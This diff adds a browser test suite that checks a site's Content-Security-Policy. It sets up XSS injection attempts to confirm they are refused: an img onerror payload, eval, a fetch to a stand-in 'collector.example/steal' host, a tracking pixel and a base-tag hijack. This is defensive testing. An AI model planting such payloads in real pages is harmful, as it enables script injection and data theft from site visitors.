@@ -1,0 +1,74 @@
+import { expect, hydrated, routes, test } from './site.ts';
+
+for (const { path } of routes) {
+  test(`${path} carries a policy of its own, in the header and in the page`, async ({ page }) => {
+    const response = await page.goto(path);
+    const header = response?.headers()['content-security-policy'] ?? '';
+    expect(header).toContain("default-src 'none'");
+    expect(header).toContain("frame-ancestors 'none'");
+    expect(header).not.toMatch(/unsafe-|https?:\/\//);
+    const inPage = page.locator('meta[http-equiv="Content-Security-Policy"]');
+    const withoutFrames = header.replace(/frame-ancestors 'none'; /, '');
+    await expect(inPage).toHaveAttribute('content', withoutFrames);
+  });
+}
+
+test('what somebody slips into a page does not run, load or send', async ({
+  page,
+  allowConsole,
+}) => {
+  allowConsole(/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type/);
+  await page.goto('/');
+  await hydrated(page);
+  const outcome = await page.evaluate(async () => {
+    const violated: string[] = [];
+    document.addEventListener('securitypolicyviolation', (event) => {
+      violated.push(event.effectiveDirective);
+    });
+    const script = document.createElement('script');
+    let refusedText = false;
+    try {
+      script.text = 'document.title = "injected"';
+    } catch {
+      refusedText = true;
+    }
+    let refusedHtml = false;
+    try {
+      document.body.innerHTML += '<img src="x" onerror="document.title = \'injected\'">';
+    } catch {
+      refusedHtml = true;
+    }
+    // Later, because what the test itself evaluates stands above the page's policy.
+    const refusedEval = await new Promise<boolean>((resolve) => {
+      setTimeout(() => {
+        try {
+          // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested.
+          eval('document.title = "injected"');
+          resolve(false);
+        } catch {
+          resolve(true);
+        }
+      });
+    });
+    const sent = await fetch('https://collector.example/steal').then(
+      () => true,
+      () => false,
+    );
+    const picture = new Image();
+    picture.src = 'https://collector.example/pixel.gif';
+    await new Promise((failed) => picture.addEventListener('error', failed));
+    const base = document.createElement('base');
+    base.href = 'https://collector.example/';
+    document.head.append(base);
+    return { refusedText, refusedHtml, refusedEval, sent, violated, base: document.baseURI };
+  });
+  expect(outcome).toMatchObject({
+    refusedText: true,
+    refusedHtml: true,
+    refusedEval: true,
+    sent: false,
+  });
+  expect(outcome.violated).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
+  expect(outcome.base).not.toContain('collector.example');
+  await expect(page).toHaveTitle(/Figbird/);
+});
